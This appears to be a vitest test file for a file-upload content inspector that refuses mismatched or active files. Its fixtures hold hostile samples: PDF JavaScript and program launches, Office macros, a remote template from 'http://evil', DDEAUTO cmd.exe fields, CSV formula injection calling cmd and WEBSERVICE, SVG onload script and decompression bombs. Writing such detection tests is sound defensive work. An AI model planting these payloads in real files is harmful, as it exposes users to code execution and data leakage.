import type { FileKind } from '@nq15/domain/files'
import JSZip from 'jszip'
import { describe, expect, test } from 'vitest'
import { sourceOf } from './byte-source.ts'
import {
  exampleDocx,
  exampleJpeg,
  exampleOpenDocument,
  examplePdf,
  examplePng,
  exampleTiff,
  exampleXlsx,
  withPart,
} from './example-files.ts'
import { inspectContent } from './inspect-content.ts'

const look = async (bytes: Buffer, claims: FileKind) => {
  const answer = await inspectContent(sourceOf(bytes), claims)
  return answer.ok ? answer.value : answer.refusal
}
const active = (detail: string) => ({ code: 'ACTIVE_CONTENT', detail })
const text = (words: string) => Buffer.from(words)

const sound: [FileKind, () => Buffer | Promise<Buffer>][] = [
  ['pdf', () => examplePdf()],
  ['pdf', () => examplePdf({ packed: '1 0 << /Type /Annot /Subtype /Link >>' })],
  ['docx', () => exampleDocx()],
  ['xlsx', () => exampleXlsx()],
  ['odt', () => exampleOpenDocument('text')],
  ['ods', () => exampleOpenDocument('spreadsheet')],
  ['png', () => examplePng()],
  ['jpeg', () => exampleJpeg()],
  ['tiff', () => exampleTiff()],
  ['text', () => text('Biên bản họp chi bộ\n')],
  ['csv', () => text('\ufeffHọ tên,Số phiếu\nNguyễn Văn An,12\nTrần Thị Bình,-3\n')],
]
test.each(sound)('a sound %s is taken', async (kind, make) => {
  expect(await look(await make(), kind)).toBe(kind)
})

const mismatches: [string, () => Buffer | Promise<Buffer>, FileKind, object][] = [
  ['a PNG named .pdf', () => examplePng(), 'pdf', { code: 'EXTENSION_MISMATCH', kind: 'png', claims: 'pdf' }],
  [
    'a Word file named .xlsx',
    () => exampleDocx(),
    'xlsx',
    { code: 'EXTENSION_MISMATCH', kind: 'docx', claims: 'xlsx' },
  ],
  ['words named .jpg', () => text('xin chào'), 'jpeg', { code: 'EXTENSION_MISMATCH', kind: 'text', claims: 'jpeg' }],
  [
    'a zip that is no office file',
    () => new JSZip().file('a.txt', 'a').generateAsync({ type: 'nodebuffer' }),
    'docx',
    { code: 'KIND_UNKNOWN' },
  ],
  ['a program', () => Buffer.from('MZ\x90\0\x03', 'latin1'), 'pdf', { code: 'KIND_UNKNOWN' }],
  ['an old Word file', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), 'docx', { code: 'KIND_UNKNOWN' }],
  ['HTML named .txt', () => text('  <!DOCTYPE html><p>'), 'text', { code: 'KIND_UNKNOWN' }],
  ['SVG named .txt', () => text('<svg onload=alert(1)>'), 'text', { code: 'KIND_UNKNOWN' }],
  ['a script for the shell', () => text('#!/bin/sh\n'), 'text', { code: 'KIND_UNKNOWN' }],
  ['a PDF behind other bytes', () => Buffer.concat([text('<html>'), examplePdf()]), 'pdf', { code: 'KIND_UNKNOWN' }],
  ['nothing', () => Buffer.alloc(0), 'pdf', { code: 'EMPTY' }],
]
test.each(mismatches)('%s is refused', async (_, make, claims, refusal) => {
  expect(await look(await make(), claims)).toEqual(refusal)
})

describe('a PDF', () => {
  const rows: [string, Parameters<typeof examplePdf>[0], object][] = [
    ['with JavaScript', { extra: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' }, active('script')],
    ['with JavaScript under an escaped name', { extra: '<< /S /#4a#61vaScript >>' }, active('script')],
    ['with JavaScript inside packed objects', { packed: '1 0 << /S /JavaScript >>' }, active('script')],
    ['that launches a program', { extra: '<< /S /Launch /F (calc.exe) >>' }, active('launch')],
    ['with a file inside', { extra: '<< /Names << /EmbeddedFiles 9 0 R >> >>' }, active('embedded-file')],
    ['with a file as an annotation', { extra: '<< /Subtype /FileAttachment >>' }, active('embedded-file')],
    ['that sends a form', { extra: '<< /S /SubmitForm >>' }, active('form-action')],
    ['with a form of the other kind', { extra: '<< /AcroForm << /XFA 9 0 R >> >>' }, active('script')],
    ['that is locked', { extra: '<< /Encrypt 9 0 R >>' }, { code: 'PASSWORD_PROTECTED' }],
    [
      'whose packed objects cannot be unpacked',
      { extra: '<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nx\nendstream' },
      { code: 'DAMAGED' },
    ],
    ['whose packed objects are a bomb', { packed: ' '.repeat(300 * 1024 * 1024) }, { code: 'SWELLS' }],
  ]
  test.each(rows)('%s is refused', async (_, made, refusal) => {
    expect(await look(examplePdf(made), 'pdf')).toEqual(refusal)
  })
  test('with an active name where a reader may not take the stream for one is refused', async () => {
    const extra = '<< /Length 0 >>\nstream\n\n<< /S /JavaScript >>\nendstream'
    expect(await look(examplePdf({ extra }), 'pdf')).toEqual(active('script'))
  })
  test.each([64 * 1024 - 5, 256 * 1024 - 5, 256 * 1024 - 60])(
    'is looked through across the edges of pieces (%i)',
    async (place) => {
      const extra = `<< /P (${'x'.repeat(place)}) /S /JavaScript >>`
      expect(await look(examplePdf({ extra }), 'pdf')).toEqual(active('script'))
    },
  )
  test('without an end is refused', async () => {
    expect(await look(examplePdf().subarray(0, 200), 'pdf')).toEqual({ code: 'DAMAGED' })
  })
  test('with a picture that happens to hold a short name is taken', async () => {
    const extra = '<< /Length 9 >>\nstream\nab/JS cd\nendstream'
    expect(await look(examplePdf({ extra }), 'pdf')).toBe('pdf')
  })
})

describe('an office file', () => {
  const rels = (relation: string) => `<Relationships>${relation}</Relationships>`
  const rows: [string, FileKind, () => Promise<Buffer>, object][] = [
    ['with macros', 'docx', async () => withPart(await exampleDocx(), 'word/vbaProject.bin', 'x'), active('macro')],
    [
      'declared as macro file',
      'docx',
      async () =>
        withPart(await exampleDocx(), '[Content_Types].xml', (before) =>
          before.replace('wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'),
        ),
      active('macro'),
    ],
    [
      'with an embedded object',
      'docx',
      async () => withPart(await exampleDocx(), 'word/embeddings/oleObject1.bin', 'x'),
      active('embedded-file'),
    ],
    [
      'with an ActiveX control',
      'xlsx',
      async () => withPart(await exampleXlsx(), 'xl/activeX/activeX1.xml', '<x/>'),
      active('embedded-file'),
    ],
    [
      'with a link to another workbook',
      'xlsx',
      async () => withPart(await exampleXlsx(), 'xl/externalLinks/externalLink1.xml', '<x/>'),
      active('external-link'),
    ],
    [
      'that loads its template from an address',
      'docx',
      async () =>
        withPart(
          await exampleDocx(),
          'word/_rels/settings.xml.rels',
          rels(
            '<Relationship Id="a" Type="http://x/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>',
          ),
        ),
      active('external-link'),
    ],
    [
      'that loads a picture from an address',
      'docx',
      async () =>
        withPart(
          await exampleDocx(),
          'word/_rels/document.xml.rels',
          rels(
            '<Relationship Id="a" Type="http://x/relationships/image" Target="\\\\host\\p.png" TargetMode="External"/>',
          ),
        ),
      active('external-link'),
    ],
    [
      'with a clicked link that runs a script',
      'docx',
      async () =>
        withPart(
          await exampleDocx(),
          'word/_rels/document.xml.rels',
          rels(
            '<Relationship Id="a" Type="http://x/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>',
          ),
        ),
      active('external-link'),
    ],
    [
      'with a field that asks another program',
      'docx',
      async () =>
        withPart(
          await exampleDocx(),
          'word/document.xml',
          '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>',
        ),
      active('launch'),
    ],
    [
      'with entities',
      'xlsx',
      async () => withPart(await exampleXlsx(), 'xl/workbook.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
      active('script'),
    ],
    [
      'with a program among its parts',
      'docx',
      async () => withPart(await exampleDocx(), 'word/media/a.exe', 'MZ'),
      active('embedded-file'),
    ],
    [
      'with a part outside of it',
      'docx',
      async () => withPart(await exampleDocx(), 'word/..\\..\\x.xml', 'x'),
      { code: 'DAMAGED' },
    ],
    [
      'that swells',
      'docx',
      async () => withPart(await exampleDocx(), 'word/media/a.bin', Buffer.alloc(40 * 1024 * 1024)),
      { code: 'SWELLS' },
    ],
    [
      'with scripts',
      'odt',
      async () => withPart(await exampleOpenDocument('text'), 'Basic/Standard/Module1.xml', '<x/>'),
      active('macro'),
    ],
    [
      'with an event',
      'odt',
      async () =>
        withPart(await exampleOpenDocument('text'), 'content.xml', '<office:x><script:event-listener/></office:x>'),
      active('macro'),
    ],
    [
      'with a table from elsewhere',
      'ods',
      async () =>
        withPart(
          await exampleOpenDocument('spreadsheet'),
          'content.xml',
          '<a><table:table-source xlink:href="http://evil"/></a>',
        ),
      active('external-link'),
    ],
    [
      'that is locked',
      'odt',
      async () => withPart(await exampleOpenDocument('text'), 'META-INF/manifest.xml', '<manifest:encryption-data/>'),
      { code: 'PASSWORD_PROTECTED' },
    ],
  ]
  test.each(rows)('%s (%s) is refused', async (_, kind, make, refusal) => {
    expect(await look(await make(), kind)).toEqual(refusal)
  })
  test('with an ordinary link is taken', async () => {
    const link =
      '<Relationship Id="a" Type="http://x/relationships/hyperlink" Target="https://xaydungdang.org.vn" TargetMode="External"/>'
    const file = await withPart(await exampleDocx(), 'word/_rels/header1.xml.rels', rels(link))
    expect(await look(file, 'docx')).toBe('docx')
  })
  test('with bytes behind its end, or in front of its first part, is refused', async () => {
    const file = await exampleDocx()
    expect(await look(Buffer.concat([file, text('x')]), 'docx')).toEqual({ code: 'DAMAGED' })
  })
  test('whose directory lies about a size is refused', async () => {
    const file = await exampleDocx()
    const at = file.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]))
    const lying = Buffer.from(file)
    lying.writeUInt32LE(lying.readUInt32LE(at + 24) - 1, at + 24)
    expect(await look(lying, 'docx')).toEqual({ code: 'SWELLS' })
  })
})

describe('a picture', () => {
  const rows: [string, FileKind, () => Buffer, object][] = [
    [
      'of too many points',
      'png',
      () => examplePng(4, 4, { width: 60_000, height: 60_000 }),
      { code: 'TOO_MANY_PIXELS', limit: 80_000_000 },
    ],
    ['of too many points', 'jpeg', () => exampleJpeg(65_000, 65_000), { code: 'TOO_MANY_PIXELS', limit: 80_000_000 }],
    [
      'of too many points',
      'tiff',
      () => exampleTiff({ width: 100_000, height: 100_000 }),
      { code: 'TOO_MANY_PIXELS', limit: 80_000_000 },
    ],
    ['without a side', 'png', () => examplePng(4, 4, { width: 0 }), { code: 'DAMAGED' }],
    ['that is cut off', 'png', () => examplePng().subarray(0, 50), { code: 'DAMAGED' }],
    ['with something behind it', 'png', () => Buffer.concat([examplePng(), text('<script>')]), { code: 'DAMAGED' }],
    ['that is cut off', 'jpeg', () => exampleJpeg().subarray(0, 24), { code: 'DAMAGED' }],
    ['whose pages make a circle', 'tiff', () => exampleTiff({ next: 8 }), { code: 'DAMAGED' }],
    ['whose pages lie outside', 'tiff', () => exampleTiff({ next: 9999 }), { code: 'DAMAGED' }],
  ]
  test.each(rows)('%s (%s) is refused', async (_, kind, make, refusal) => {
    expect(await look(make(), kind)).toEqual(refusal)
  })
  test('just within the bound is taken', async () => {
    expect(await look(examplePng(4, 4, { width: 10_000, height: 8_000 }), 'png')).toBe('png')
    expect(await look(examplePng(4, 4, { width: 10_000, height: 8_001 }), 'png')).toMatchObject({
      code: 'TOO_MANY_PIXELS',
    })
  })
})

test.each([
  ["=cmd|'/c calc'!A0", active('formula')],
  ['1,"=WEBSERVICE(""http://evil"")"', active('formula')],
  ["1,@SUM(1+1)*cmd|'x'!A0", active('formula')],
  ['0912,+84 24 3825 1234', 'csv'],
  ['1,-5', 'csv'],
])('a table with %s', async (words, answer) => {
  expect(await look(text(words), 'csv')).toEqual(answer)
})

test('words that are no UTF-8 are refused, also late in the file', async () => {
  expect(await look(Buffer.concat([text('a'.repeat(300_000)), Buffer.from([0xc3, 0x28])]), 'text')).toEqual({
    code: 'DAMAGED',
  })
})
